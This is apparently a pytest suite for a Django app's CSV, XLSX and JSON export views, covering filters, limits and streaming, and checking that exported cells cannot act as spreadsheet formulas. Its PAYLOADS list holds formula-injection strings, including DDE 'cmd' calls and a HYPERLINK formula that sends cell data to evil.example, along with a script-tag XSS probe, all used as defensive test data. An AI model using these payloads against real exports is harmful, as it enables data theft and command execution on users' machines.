"""What is taken away: the filter of the page, complete rows, and no cell that a spreadsheet would carry out."""

import csv
import io
import json
from collections.abc import Iterator

import openpyxl
import pytest
from django.test import Client

from tests.newsroom import CONTRACT, PLATFORM, POHANG, POSCO, SIGNED, Act, Party, Project, Story, platform_story, tell
from tracker.exports import tables, write_xlsx
from tracker.exports.cells import FORMULA, clean, defuse, starts_formula
from tracker.exports.write_csv import write_cell
from tracker.models import Initiative, Milestone, Promise
from tracker.views import exports

pytestmark = pytest.mark.django_db
PAGES = [
    "/groups/posco/",
    "/organizations/posco-company/",
    "/groups/posco/partnerships/",
    "/organizations/posco-company/partnerships/",
    "/timeline/",
    "/initiatives/",
    "/promises/",
    "/articles/",
    "/search/",
]
PAYLOADS = [
    '=HYPERLINK("http://evil.example/?"&A1,"열기")',
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+9)*cmd|'/c calc'!A0",
    "＝1+1",
    "＠SUM(1)",
    " =1+1",
    "\u00a0=1+1",
    '";=1+1;"',
    "a,b\u2028=1+1",
    "<script>alert(1)</script>",
    "_x003D_1+1",
    "#N/A",
]


def body(answer: object) -> bytes:
    return b"".join(answer.streaming_content) if answer.streaming else answer.content  # type: ignore[attr-defined]


def read_csv(client: Client, address: str, **asked: object) -> list[dict[str, str]]:
    answer = client.get(address + "export.csv", asked)
    assert answer.status_code == 200
    content = body(answer)
    assert content.startswith(b"\xef\xbb\xbf")
    return list(csv.DictReader(io.StringIO(content.decode("utf-8-sig"))))


def read_json(client: Client, address: str, **asked: object) -> dict[str, object]:
    answer = client.get(address + "export.json", asked)
    assert answer["Content-Type"] == "application/json"
    found: dict[str, object] = json.loads(body(answer))
    return found


def read_xlsx(client: Client, address: str, **asked: object) -> openpyxl.Workbook:
    return openpyxl.load_workbook(io.BytesIO(body(client.get(address + "export.xlsx", asked))))


def cells(book: openpyxl.Workbook) -> Iterator[openpyxl.cell.cell.Cell]:
    for sheet in book:
        for row in sheet.iter_rows():
            yield from (cell for cell in row if cell.value is not None)


@pytest.fixture
def hostile() -> None:
    """Each payload as title, name, place and sentence of an article of its own."""
    for number, text in enumerate(PAYLOADS):
        said = f"{number}일 {text} 계약을 맺었다."
        parties = (Party(text, "lead", group="posco"), POSCO, Party(f"{text}{number}", "customer", kind="government"))
        acts = (Act("contract", f"2019-01-{number + 1:02}", said), Act("construction", "2019-09", said, "planned"))
        project = Project(text, parties, acts, locations=(text,))
        tell(Story(text, f"{text}\n{said}", (project,), f"2020-03-{number + 1:02}"))


@pytest.mark.parametrize("page", PAGES)
@pytest.mark.parametrize("language", ["ko", "en"])
def test_every_view_is_written_in_every_form_empty_and_full(client: Client, page: str, language: str) -> None:
    for _ in range(2):
        for form, kind in [("csv", "text/csv"), ("xlsx", "spreadsheetml"), ("json", "application/json")]:
            answer = client.get(f"{page}export.{form}?q=포항", headers={"accept-language": language})
            assert answer.status_code == 200
            assert kind in answer["Content-Type"]
            assert f".{form}" in answer["Content-Disposition"]
            assert body(answer)
        tell(platform_story())


@pytest.mark.parametrize("page", PAGES)
def test_what_is_taken_has_the_rows_of_the_page(client: Client, page: str) -> None:
    tell(platform_story())
    found = read_csv(client, page, q="포항")
    data = read_json(client, page, q="포항")
    sheet = read_xlsx(client, page, q="포항").worksheets[0]
    assert len(found) == data["count"] == sheet.max_row - 1 > 0
    assert list(found[0]) == list(data["columns"].values())  # type: ignore[attr-defined]
    assert data["filter"] == {"q": ["포항"]}


def test_a_milestone_comes_with_its_sentence_outlet_and_addresses(client: Client) -> None:
    tell(platform_story())
    row = read_csv(client, "/groups/posco/", modality="happened")
    assert len(row) == 1
    milestone = Milestone.objects.get(modality="happened")
    assert row[0]["근거 문장"] == SIGNED
    assert row[0]["매체"] == "가상일보"
    assert row[0]["기사 날짜"] == "2020-03-05"
    assert row[0]["참여 (역할)"] == "포스코 (주도); 포항시 (발주·수요)"
    assert row[0]["근거 주소"] == f"http://testserver/evidence/milestone/{milestone.public_id}/"
    assert client.get(row[0]["근거 주소"]).status_code == 200
    assert client.get(row[0]["사업 주소"]).status_code == 200
    english = body(client.get("/groups/posco/export.csv", headers={"accept-language": "en"})).decode()
    assert '"Evidence sentence"' in english or '"Evidence"' in english
    assert '"2 Mar 2020"' in english


def test_json_says_what_it_is_and_gives_codes_instead_of_words(client: Client) -> None:
    tell(platform_story())
    found = read_json(client, "/groups/posco/", modality="planned", sector="smart_city")
    assert found["address"] == "http://testserver/groups/posco/?sector=smart_city&modality=planned"
    assert found["filter"] == {"sector": ["smart_city"], "modality": ["planned"]}
    assert found["filter_words"] == ["분야: 스마트시티", "양태: 계획"]
    assert "근거 문장의 권리" in str(found["rights"])
    assert found["cut"] is False
    (row,) = found["rows"]  # type: ignore[misc]
    assert row["kind"] == "construction"
    assert (row["date"], row["date_from"], row["date_to"]) == ("2020-09", "2020-09-01", "2020-09-30")
    assert row["participants"][0] == {"id": "posco-company", "name": "포스코", "role": "lead", "group": "포스코"}
    assert row["promise"] == "due"


def test_a_name_is_that_of_the_day(client: Client) -> None:
    party = Party("포스코ICT", "lead", "posco-dx", "posco")
    tell(platform_story(projects=(Project("가", (party,), (CONTRACT,)),)))
    assert read_csv(client, "/groups/posco/")[0]["주도"] == "포스코ICT"
    assert read_csv(client, "/initiatives/")[0]["주도"] == "포스코DX"


def test_promises_come_whole_and_by_state(client: Client) -> None:
    tell(platform_story())
    assert [row["상태"] for row in read_csv(client, "/promises/")] == ["기한 지남"]
    assert read_csv(client, "/promises/", state="fulfilled") == []
    assert Promise.objects.count() == 1


def test_more_promises_than_a_page_holds_are_all_taken(client: Client) -> None:
    for number in range(53):
        said = f"{number}번째 공사를 시작할 계획이다."
        acts = (Act("construction", f"20{20 + number // 12}-{number % 12 + 1:02}", said, "planned"),)
        tell(
            Story(
                f"글 {number}",
                f"포스코 {said}",
                (Project(f"사업 {number}", (POSCO,), acts, locations=(f"{number}시",)),),
            )
        )
    found = read_csv(client, "/promises/")
    assert len({row["이정표 번호"] for row in found}) == len(found) == Promise.objects.count() == 53


@pytest.mark.usefixtures("hostile")
@pytest.mark.parametrize("page", PAGES)
def test_no_field_of_a_csv_file_begins_a_formula(client: Client, page: str) -> None:
    content = body(client.get(page + "export.csv?q=1")).decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(content)))
    assert len(rows) > 3
    for row in rows:
        for field in row:
            assert field.startswith("'") or not starts_formula(field), field
    # every field stands in quotes, so that a semicolon within one begins no other
    assert all(line.startswith('"') and line.endswith('"') for line in content.splitlines())


@pytest.mark.usefixtures("hostile")
@pytest.mark.parametrize("page", PAGES)
def test_no_cell_of_a_spreadsheet_is_a_formula_link_or_error(client: Client, page: str) -> None:
    found = list(cells(read_xlsx(client, page, q="1")))
    assert len(found) > 20
    for cell in found:
        assert cell.data_type in ("s", "n", "d", "inlineStr"), (cell.data_type, cell.value)
        assert cell.hyperlink is None
        if cell.data_type != "n" and starts_formula(str(cell.value)):
            assert cell.quotePrefix


@pytest.mark.usefixtures("hostile")
def test_texts_arrive_letter_by_letter_in_a_spreadsheet(client: Client) -> None:
    texts = {
        str(cell.value).replace("_x005F_", "_") for cell in cells(read_xlsx(client, "/initiatives/"))
    }  # as Excel does
    titles = {" ".join(clean(row.title).split()) for row in Initiative.objects.visible()}
    assert len(titles & {" ".join(text.split()) for text in PAYLOADS}) > 8
    assert titles <= texts


@pytest.mark.usefixtures("hostile")
def test_json_holds_no_tag(client: Client) -> None:
    content = body(client.get("/initiatives/export.json")).decode()
    assert "<" not in content
    assert "<script>alert(1)</script>" in {row["title"] for row in json.loads(content)["rows"]}


@pytest.mark.parametrize("sign", FORMULA)
def test_a_text_that_begins_with_a_sign_is_defused_and_a_number_is_not(sign: str) -> None:
    assert defuse(f"{sign}1") == f"'{sign}1"
    assert write_cell(-5) == "-5"
    assert write_cell("") == ""


def test_characters_that_no_file_may_hold_are_left_out() -> None:
    assert clean("가\x00나\x0b다\ud800라\ufffe") == "가나다라"
    assert len(clean("가" * 40_000)) < 32_767


def test_a_file_ends_at_its_limit_and_says_so(client: Client, monkeypatch: pytest.MonkeyPatch) -> None:
    tell(platform_story(projects=(Project("가", (POSCO, POHANG), (CONTRACT,)), Project("나", (POSCO,), (CONTRACT,)))))
    sheet = exports._sheet
    monkeypatch.setattr(exports, "_sheet", lambda request, taken: _limited(sheet(request, taken)))
    rows = read_csv(client, "/initiatives/")
    assert len(rows) == 2
    assert rows[1]["제목"].startswith("앞의 1행까지만")
    data = read_json(client, "/initiatives/")
    assert (data["count"], data["limit"], data["cut"]) == (1, 1, True)
    words = [cell.value for cell in cells(read_xlsx(client, "/initiatives/"))]
    assert sum("앞의 1행까지만" in str(value) for value in words) == 2


def _limited(sheet: tables.Sheet) -> tables.Sheet:
    from dataclasses import replace

    return replace(sheet, limit=1)


def test_rows_are_written_while_they_are_read(client: Client) -> None:
    tell(platform_story())
    answer = client.get("/initiatives/export.csv")
    assert answer.streaming
    stream = iter(answer.streaming_content)  # type: ignore[attr-defined]
    assert "제목".encode() in next(stream)


def test_json_parts_join_to_one_document_whatever_their_number(monkeypatch: pytest.MonkeyPatch) -> None:
    from django.utils import timezone

    from tracker.exports.tables import Column, Sheet
    from tracker.exports.write_json import write_json

    for count in (0, 1, 99, 100, 101, 200, 250):
        sheet = Sheet(
            "n", "t", "a", (Column("x", "X", lambda row: row),), range(count), (), {}, (), timezone.now(), "s", "r"
        )
        assert [row["x"] for row in json.loads("".join(write_json(sheet)))["rows"]] == list(range(count))


@pytest.mark.parametrize("page", PAGES)
@pytest.mark.parametrize(
    "query",
    ["sector=x&status=%00", "from=2020-99&to=soon", "page=-1&affiliate=%27", "kind=x&year=x&group=%00", "q=%ED%A0%80"],
)
def test_nonsense_in_the_query_is_left_out_and_noted(client: Client, page: str, query: str) -> None:
    tell(platform_story())
    answer = client.get(f"{page}export.json?{query}")
    assert answer.status_code == 200
    json.loads(body(answer))


def test_nonsense_is_named_in_the_notes(client: Client) -> None:
    assert "x" in read_json(client, "/initiatives/", sector="x")["notes"][0]  # type: ignore[index]


@pytest.mark.parametrize("address", ["/groups/posco/export.exe", "/groups/nobody/export.csv", "/initiatives/export."])
def test_what_is_not_there_is_a_missing_page(client: Client, address: str) -> None:
    assert client.get(address).status_code == 404


def test_sheet_names_are_such_that_excel_opens_them() -> None:
    assert write_xlsx._sheet_name("[가]:나*다?/라\\'" + "마" * 40) == ("가 나 다 라 " + "마" * 40)[:31]
    assert write_xlsx._sheet_name("'") == "data"


def test_unseen_articles_give_no_sentence_beyond_their_evidence(client: Client) -> None:
    tell(platform_story(body=f"{SIGNED} 끝에만 있는 백일홍.", projects=(Project("가", PLATFORM.parties, (CONTRACT,)),)))
    for page in PAGES:
        assert "백일홍" not in body(client.get(f"{page}export.csv")).decode()
